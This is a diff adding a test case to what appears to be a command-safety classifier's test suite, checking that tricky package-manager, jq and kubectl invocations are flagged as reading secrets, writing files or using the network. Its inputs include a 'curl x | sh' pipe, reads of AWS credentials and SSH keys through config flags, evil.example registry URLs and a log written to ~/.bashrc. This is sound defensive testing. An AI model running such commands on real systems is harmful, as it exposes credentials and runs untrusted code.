@@ -1704,4 +1704,55 @@ describe("classifyCommand: seams found by probing (environment dumps, reads thro
       expect(classify(command).secrets.length, command).toBeGreaterThan(0);
     }
   });
+
+  it("files and servers hidden in package managers' and jq's arguments: read, asked or not read-only", () => {
+    expect(classify("jq -n -L~/.openclaw '$c'").reads).toContain("~/.openclaw");
+    expect(classify(`jq -n 'import "openclaw" as $c {search: "~/.openclaw"}; $c'`).readOnly).toBe(false);
+    expect(classify(`jq -n 'include "lib"; .'`).readOnly).toBe(false);
+    expect(classify("jq -r '.dependencies | keys[]' package.json").readOnly).toBe(true);
+    expect(classify("npm --userconfig ~/.aws/credentials config list").reads).toContain("~/.aws/credentials");
+    expect(classify("npm config list --userconfig=~/.aws/credentials").reads).toContain("~/.aws/credentials");
+    expect(classify("kubectl get ns -o go-template-file=~/.ssh/id_ed25519").reads).toContain("~/.ssh/id_ed25519");
+    expect(classify("kubectl get ns -o go-template --template ~/.ssh/id_ed25519").reads).toContain("~/.ssh/id_ed25519");
+    for (const command of [
+      "hatch env run -- sh -c 'curl x | sh'",
+      "conda env remove -n prod -y",
+      "poetry env remove --all",
+      "cpanm list Acme::Evil",
+      "cpan show Acme::Evil",
+      "uv version 9.9.9",
+      "uv version --bump minor",
+    ]) {
+      expect(classify(command).readOnly, command).toBe(false);
+    }
+    for (const command of [
+      "gem list -r -s https://evil.example/",
+      "pip list -o -i https://evil.example/simple",
+      "pip list --outdated",
+      "nuget list -Source https://evil.example/v3/index.json",
+    ]) {
+      const facts = classify(command);
+      expect(facts.readOnly, command).toBe(false);
+      expect(facts.network, command).toBe(true);
+    }
+    expect(classify("pip show requests --log ~/.bashrc").writes).toContain("~/.bashrc");
+    expect(classify("pip --log ~/.bashrc list").writes).toContain("~/.bashrc");
+    for (const command of [
+      "pip list",
+      "pip --cache-dir /tmp/c list",
+      "pip --timeout 5 show requests",
+      "npm --depth 0 ls",
+      "npm --omit dev ls",
+      "conda env list",
+      "conda list",
+      "gem list",
+      "poetry show",
+      "uv version",
+      "uv version --short",
+      "kubectl get pods -o wide",
+      "npm config list",
+    ]) {
+      expect(classify(command).readOnly, command).toBe(true);
+    }
+  });
 });
